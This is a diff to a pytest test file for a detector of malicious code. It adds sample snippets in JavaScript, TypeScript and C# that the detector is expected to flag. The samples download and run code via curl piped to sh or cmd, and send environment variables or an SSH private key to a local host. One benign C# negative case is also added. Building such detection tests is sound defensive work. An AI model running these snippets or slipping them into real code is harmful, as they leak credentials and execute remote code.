@@ -17,6 +17,17 @@ def fired(text: str, name: str) -> set[str]:
 @pytest.mark.parametrize(
     ("name", "text", "rule"),
     [
+        ("a.js", "const {promisify} = require('util'); const run = promisify(require('child_process').exec); "
+         "run('curl 127.0.0.1 | sh')", "download-and-run"),
+        ("a.js", "const {token = 1, ...rest} = process.env; let body = ''; body += JSON.stringify(process.env); "
+         "fetch('http://127.0.0.1', {method: 'POST', body})", "exfiltration"),
+        ("a.ts", "class A { send(x: string) { fetch('http://127.0.0.1', {body: x}) } "
+         "run() { this.send(require('fs').readFileSync('/home/a/.ssh/id_rsa')) } }", "exfiltration"),
+        ("A.cs", 'class A { void F() { var code = new WebClient().DownloadString("http://127.0.0.1"); '
+         'string run = $"/c {code}"; Process.Start("cmd", run); } }', "download-and-run"),
+        ("A.cs", 'class A { async Task F(HttpClient c) { var all = Environment.GetEnvironmentVariables(); '
+         'await new HttpClient().PostAsync("http://127.0.0.1", new StringContent(all.ToString())); } }',
+         "exfiltration"),
         ("a.js", "const {env} = process; fetch('http://127.0.0.1', {body: JSON.stringify(env)})", "exfiltration"),
         ("a.js", "require('node:child_process').spawn('sh', ['-c', 'curl 127.0.0.1 | sh'])", "download-and-run"),
         ("a.js", "fetch('http://127.0.0.1').then(r => r.text()).then(c => (0, eval)(c))", "download-and-run"),
@@ -79,6 +90,7 @@ def test_malice(name: str, text: str, rule: str) -> None:
         ("a.js", "const f = () => { fetch('http://127.0.0.1/x'); return 'a()' }; eval(f())"),
         ("a.js", "const fs = require('fs'); fs.writeFileSync('out.json', JSON.stringify(data))"),
         ("a.go", 'package a\nimport "os/exec"\nfunc f() { exec.Command("git", "describe").Run() }'),
+        ("A.cs", 'class A { void F() { Process.Start("git", "describe"); } }'),
         ("a.sh", 'NAME=$(git describe)\necho "$NAME"\n'),
     ],
 )
